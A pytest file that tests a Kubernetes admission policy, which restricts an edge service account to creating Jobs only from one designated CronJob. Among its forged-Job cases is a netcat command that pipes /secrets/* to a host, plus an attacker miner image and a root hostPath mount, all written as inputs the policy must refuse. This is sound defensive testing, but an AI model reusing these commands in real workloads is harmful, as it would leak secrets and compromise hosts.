"""The ValidatingAdmissionPolicy, evaluated with a real CEL interpreter (cel-python) on Jobs.

The genuine Job is the one ``mlmon.edge.batch.KubernetesJobAdapter`` builds from the designated
CronJob; the forged ones are what a stolen edge token could try to create instead.
"""

from __future__ import annotations

import copy
from datetime import UTC, datetime

import kubernetes_validate
import pytest
import yaml

from mlmon.edge.batch import KubernetesJobAdapter
from tests.deploy.conftest import one
from tests.deploy.k8s_checks import admit

K8S_VERSION = "1.33.0"
EDGE_USER = "system:serviceaccount:mlmon:mlmon-edge"
POLICY = "mlmon-edge-jobs-from-designated-cronjob"

# the designated CronJob as the API server returns it (defaults filled in)
CRONJOB = yaml.safe_load("""
apiVersion: batch/v1
kind: CronJob
metadata:
  name: risk-batch
  namespace: models
  uid: 6f1d2c0e-5b7a-4c1e-9d3f-0a1b2c3d4e5f
  resourceVersion: "4711"
spec:
  schedule: "0 3 * * *"
  concurrencyPolicy: Forbid
  suspend: false
  jobTemplate:
    metadata:
      labels: {app.kubernetes.io/name: risk-batch}
    spec:
      backoffLimit: 0
      template:
        metadata:
          labels: {app.kubernetes.io/name: risk-batch}
        spec:
          serviceAccountName: risk-batch
          restartPolicy: Never
          dnsPolicy: ClusterFirst
          schedulerName: default-scheduler
          terminationGracePeriodSeconds: 30
          securityContext: {runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
          containers:
            - name: score
              image: registry.hospital.internal/risk-batch:2.3.1
              args: ["score", "--input", "/data/golden"]
              imagePullPolicy: IfNotPresent
              terminationMessagePath: /dev/termination-log
              terminationMessagePolicy: File
              resources: {}
              securityContext:
                allowPrivilegeEscalation: false
                capabilities: {drop: ["ALL"]}
""")
NOW = datetime(2026, 11, 23, 2, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def policy(rendered):
    return one(rendered["base"], "ValidatingAdmissionPolicy", POLICY)


@pytest.fixture(scope="module")
def binding(rendered):
    return one(rendered["base"], "ValidatingAdmissionPolicyBinding", POLICY)


def genuine_job() -> dict:
    return KubernetesJobAdapter(
        "https://kubernetes.default.svc", "models", "risk-batch"
    ).job_from_cronjob(copy.deepcopy(CRONJOB), NOW)


def request(namespace: str = "models", user: str = EDGE_USER) -> dict:
    return {"operation": "CREATE", "namespace": namespace, "userInfo": {"username": user},
            "resource": {"group": "batch", "version": "v1", "resource": "jobs"}}  # fmt: skip


def test_the_sample_cronjob_and_job_are_valid_kubernetes_objects():
    kubernetes_validate.validate(CRONJOB, K8S_VERSION, strict=True)
    kubernetes_validate.validate(genuine_job(), K8S_VERSION, strict=True)


def test_a_job_from_the_designated_cronjob_is_admitted(policy):
    assert admit(policy, CRONJOB, genuine_job(), request()) == []


def _forge(change):
    job = genuine_job()
    change(job)
    return job


def _pod(job):
    return job["spec"]["template"]["spec"]


FORGED = {
    "no owner": (lambda j: j["metadata"].pop("ownerReferences"), "owned by the designated"),
    "owner uid of an older CronJob of that name": (
        lambda j: j["metadata"]["ownerReferences"][0].update(uid="0000-old"), "owned by"),
    "owner is not the controller": (
        lambda j: j["metadata"]["ownerReferences"][0].update(controller=False), "owned by"),
    "owned by another CronJob": (
        lambda j: j["metadata"]["ownerReferences"][0].update(name="etl"), "owned by"),
    "no instantiate annotation": (
        lambda j: j["metadata"]["annotations"].pop("cronjob.kubernetes.io/instantiate"),
        "cronjob.kubernetes.io/instantiate: manual"),
    "annotation says scheduled": (
        lambda j: j["metadata"]["annotations"].update(
            {"cronjob.kubernetes.io/instantiate": "scheduled"}), "instantiate: manual"),
    "other image": (
        lambda j: _pod(j)["containers"][0].update(image="docker.io/attacker/miner:latest"),
        "container images"),
    "extra container": (
        lambda j: _pod(j)["containers"].append({"name": "x", "image": "busybox:1.36"}),
        "container images"),
    "same image, other command": (
        lambda j: _pod(j)["containers"][0].update(command=["sh", "-c", "cat /secrets/* | nc x 1"]),
        "pod template unchanged"),
    "same image, other service account": (
        lambda j: _pod(j).update(serviceAccountName="model-admin"), "pod template unchanged"),
    "same image, host path volume": (
        lambda j: _pod(j).update(volumes=[{"name": "h", "hostPath": {"path": "/"}}]),
        "pod template unchanged"),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(FORGED))
def test_a_forged_job_is_refused_with_the_reason(policy, case):
    change, reason = FORGED[case]
    failed = admit(policy, CRONJOB, _forge(change), request())
    assert failed, f"forged Job ({case}) was admitted"
    assert any(reason in m for m in failed), failed


def test_the_genuine_job_is_refused_in_another_namespace(policy):
    job = genuine_job()
    job["metadata"]["namespace"] = "default"
    assert any("owned by" in m for m in admit(policy, CRONJOB, job, request("default")))


def test_the_policy_applies_only_to_the_edge_service_account(policy):
    forged = _forge(FORGED["other image"][0])
    # the CronJob controller and people are governed by RBAC, not by this policy
    assert admit(policy, CRONJOB, forged, request(user="system:serviceaccount:kube-system:cronjob-controller")) == []  # fmt: skip
    assert admit(policy, CRONJOB, forged, request(user=EDGE_USER)) != []


def test_policy_and_binding_shape(policy, binding, rendered):
    spec = policy["spec"]
    assert spec["failurePolicy"] == "Fail"
    assert spec["paramKind"] == {"apiVersion": "batch/v1", "kind": "CronJob"}
    assert spec["matchConstraints"]["resourceRules"] == [
        {"apiGroups": ["batch"], "apiVersions": ["*"], "operations": ["CREATE", "UPDATE"],
         "resources": ["jobs"]}]  # fmt: skip
    for v in spec["validations"]:
        # the API server requires a one-line message when the expression spans lines
        assert v["message"] and "\n" not in v["message"]
        assert v["reason"] == "Forbidden"
    b = binding["spec"]
    assert b["policyName"] == POLICY
    assert b["validationActions"] == ["Deny"]
    assert b["paramRef"] == {"name": "risk-batch", "namespace": "models",
                             "parameterNotFoundAction": "Deny"}  # fmt: skip
    assert "matchResources" not in b  # every namespace: the edge may create Jobs nowhere else
    role = one(rendered["base"], "Role", "mlmon-edge-batch")
    assert role["metadata"]["namespace"] == b["paramRef"]["namespace"]
    assert role["rules"][0]["resourceNames"] == [b["paramRef"]["name"]]
